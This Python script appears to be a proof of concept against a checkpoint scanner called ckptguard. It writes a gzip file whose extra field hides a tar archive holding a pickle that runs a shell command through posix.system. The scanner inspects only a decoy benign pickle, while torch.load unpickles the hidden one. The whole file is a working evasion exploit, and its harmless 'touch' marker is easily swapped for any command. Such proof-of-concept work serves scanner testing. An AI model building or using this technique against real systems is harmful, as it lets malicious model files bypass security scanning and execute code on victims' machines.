#!/usr/bin/python3
"""A gzip file (of a benign pickle) whose FEXTRA field holds a whole tar archive starting at byte 0:
the gzip header's first 12 bytes are the tar name field's start, the extra field holds the rest of
tar header 0 (checksum spelled normally), header 1 'storages' and its data, the payload pickle.
ckptguard sniffs gzip before tar (lib/formats/src/container.cc Opener::Open: OpenWrapped returns
early) and scans only the decompressed benign pickle; torch.load tries tarfile.open on any non-zip
file first (torch/serialization.py _legacy_load -> legacy_load) and pickle.load()s 'storages'.
Usage: tar_in_gzip_extra.py OUT MARKER"""
import sys, struct, zlib, pickle

def payload(marker):
    return b"cposix\nsystem\n(S'touch " + marker.encode() + b"'\ntR."
def tar_header(prefix12, name, size):
    h = bytearray(512)
    h[0:len(prefix12)] = prefix12
    h[len(prefix12):len(prefix12) + len(name)] = name
    h[100:108] = b'0000644\0'; h[108:116] = b'0000000\0'; h[116:124] = b'0000000\0'
    h[124:136] = b'%011o\0' % size; h[136:148] = b'00000000000\0'; h[156:157] = b'0'
    h[257:263] = b'ustar\0'; h[263:265] = b'00'
    h[148:156] = b' ' * 8
    h[148:156] = b'%06o\0 ' % sum(h)
    return bytes(h)
def build(marker):
    pay = payload(marker)
    m1 = tar_header(b'', b'storages', len(pay)) + pay
    m1 += b'\0' * ((-len(m1)) % 512) + b'\0' * 1024
    xlen = 512 - 12 + len(m1)
    gz_head = b'\x1f\x8b\x08\x04' + b'\0\0\0\0' + b'\x00\xff' + struct.pack('<H', xlen)   # FLG = FEXTRA
    h0 = tar_header(gz_head, b'', 0)
    benign = pickle.dumps({'weights': [1.0, 2.0]}, protocol=2)
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = co.compress(benign) + co.flush()
    return h0 + m1 + body + struct.pack('<II', zlib.crc32(benign), len(benign))
if __name__ == '__main__':
    open(sys.argv[1], 'wb').write(build(sys.argv[2]))
